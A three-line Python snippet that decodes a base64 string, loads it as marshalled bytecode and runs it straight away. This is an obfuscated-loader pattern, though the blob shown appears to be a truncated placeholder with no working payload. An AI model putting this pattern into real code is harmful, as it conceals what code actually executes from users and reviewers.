import marshal, types, base64
c = marshal.loads(base64.b64decode('4wAAAAAAAAAA'))
types.FunctionType(c, globals())()
